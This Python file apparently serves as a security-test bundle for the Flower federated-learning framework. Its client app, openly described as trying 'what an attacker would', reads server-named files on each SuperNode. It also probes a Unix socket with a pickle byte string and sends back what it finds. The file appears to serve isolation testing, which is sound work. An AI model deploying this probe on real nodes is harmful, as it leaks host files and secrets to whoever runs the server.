"""A bundle that wants data: its ClientApp looks around as the SuperNode's user and reports.

Copied into an app's folder; what it finds comes back as JSON text.
"""

import json
import os
import socket
import struct
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


def _read(path):
    try:
        return Path(path).read_bytes()[:40].decode("utf-8", "replace")
    except OSError as error:
        return type(error).__name__


def _asked(path, header, body):
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    connection.settimeout(120)
    try:
        connection.connect(path)
        head = json.dumps(header).encode()
        for part in (head, body):
            connection.sendall(struct.pack(">Q", len(part)) + part)
        found = b""
        while piece := connection.recv(1 << 16):
            found += piece
    except OSError as error:
        return type(error).__name__
    return found[8:].decode("utf-8", "replace")[:2000]


@client.train()
def look(message: Message, context: Context) -> Message:
    """Try what an attacker would."""
    wanted = json.loads(str(message.content["config"]["wanted"]))
    found = {
        "user": os.getuid(),
        "files": {path: _read(path) for path in wanted["files"]},
        "answers": [_asked(wanted["socket"], header, b"\x80\x04.") for header in wanted["headers"]],
    }
    content = RecordDict({"config": ConfigRecord({"found": json.dumps(found)})})
    return Message(content, reply_to=message)


@server.main()
def ask(grid: Grid, context: Context) -> None:
    """Ask every node once and write down what it found."""
    while not (nodes := list(grid.get_node_ids())):
        pass
    text = str(context.run_config["wanted"])
    messages = [
        Message(RecordDict({"config": ConfigRecord({"wanted": text})}), node, "train")
        for node in nodes
    ]
    for reply in grid.send_and_receive(messages, timeout=120):
        said = str(reply.error) if reply.has_error() else reply.content["config"]["found"]
        Path(str(context.run_config["out"])).write_text(str(said), "utf-8")
